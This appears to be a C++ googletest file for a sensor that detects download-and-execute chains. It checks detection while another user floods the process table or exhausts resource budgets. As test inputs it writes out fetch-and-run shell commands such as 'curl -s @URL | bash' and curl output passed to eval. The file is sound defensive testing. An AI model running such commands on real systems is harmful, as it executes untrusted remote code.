// SPDX-License-Identifier: Apache-2.0
// One user blinds the sensor for nobody: what he fills is his own.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "chain_site.h"

namespace davylamp::test {
namespace {

// Thousands of processes and files come and go, on machines that do other things too.
constexpr std::chrono::milliseconds kCrowdsPatience{120'000};

// More than any table of processes once had room for.
constexpr const char* kCrowd =
    "chmod 777 @D; setpriv --reuid 65534 --clear-groups @CROWD 8300 @D/ready & "
    "until [ -e @D/ready ] || ! kill -0 $!; do sleep 0.05; done; ";

GuardResult beside_a_crowd(ChainSite& site, const std::string& command)
{
    GuardOptions options;
    options.mode = Mode::block;
    options.alone = true;
    options.patience = kCrowdsPatience;
    options.command =
        bash(site.fill(replaced(kCrowd + command + "; kill -0 $! && > @D/stood; kill $!", "@CROWD",
                                program("live_crowd"))));
    GuardResult result = run_guard(options);
    EXPECT_TRUE(exists(site.folder / "stood")) << "no crowd:\n" << result.err;
    return result;
}

TEST(Crowd, ADownloadThatRunsIsSeen)
{
    ChainSite site;
    GuardResult result = beside_a_crowd(site, "curl -s -o @D/f @URL; bash @D/f");
    EXPECT_FALSE(exists(site.marker())) << result.err;
    result.first("CHAIN-003");
}

TEST(Crowd, TextThatIsEvaluatedIsSeen)
{
    ChainSite site;
    GuardResult result = beside_a_crowd(site, "bash -c \"$(curl -s @URL)\"");
    EXPECT_FALSE(exists(site.marker())) << result.err;
    result.first("CHAIN-004");
}

TEST(Crowd, APipeIntoAShellIsSeen)
{
    ChainSite site;
    GuardResult result = beside_a_crowd(site, "curl -s @URL | bash");
    EXPECT_FALSE(exists(site.marker())) << result.err;
    result.first("CHAIN-001");
}

// A user who hoards what each user has a budget for (rules/budget.h) pushes out his own alone, and
// that is told. More than the tables held before there were budgets.
GuardResult beside_a_hoard(ChainSite& site, const std::string& command)
{
    GuardOptions options;
    options.mode = Mode::block;
    options.alone = true;
    options.patience = kCrowdsPatience;
    options.command = bash(site.fill(
        replaced(replaced("chmod 777 @D; " + command, "@HOARD", "@USER " + program("live_hoard")),
                 "@USER", "setpriv --reuid 65534 --clear-groups")));
    return run_guard(options);
}

TEST(Hoard, ADownloadOfAnotherUserIsSeen)
{
    ChainSite site;
    GuardResult result = beside_a_hoard(
        site, "curl -s -o @D/f @URL; mkdir -m 777 @D/h; @HOARD files 8300 @D/h && > @D/stood; "
              "bash @D/f");
    EXPECT_TRUE(exists(site.folder / "stood")) << "no hoard:\n" << result.err;
    EXPECT_FALSE(exists(site.marker())) << result.err;
    result.first("CHAIN-003");
    EXPECT_THAT(result.err, testing::HasSubstr("(fed_file): a user downloaded more"));
}

TEST(Hoard, TextThatAnotherUserReadIsSeen)
{
    ChainSite site;
    GuardResult result = beside_a_hoard(site, "mkfifo -m 666 @D/ready; x=$(curl -s @URL); "
                                              "@HOARD texts 600 @D/ready & read word < @D/ready; "
                                              "(eval \"$x\"); kill -0 $! && > @D/stood; kill $!");
    EXPECT_TRUE(exists(site.folder / "stood")) << "no hoard:\n" << result.err;
    EXPECT_FALSE(exists(site.marker())) << result.err;
    result.first("CHAIN-004");
    EXPECT_THAT(result.err, testing::HasSubstr("(fed_text): a user's programs read more"));
}

// What a user hoards is remembered up to his budget: his newest downloads are.
TEST(Hoard, TheUsersOwnNewestIsSeen)
{
    ChainSite site;
    GuardResult result = beside_a_hoard(site, "mkdir -m 777 @D/h; @HOARD files 2000 @D/h; "
                                              "@USER curl -s -o @D/f @URL; @USER bash @D/f");
    EXPECT_FALSE(exists(site.marker())) << result.err;
    result.first("CHAIN-003");
}

} // namespace
} // namespace davylamp::test
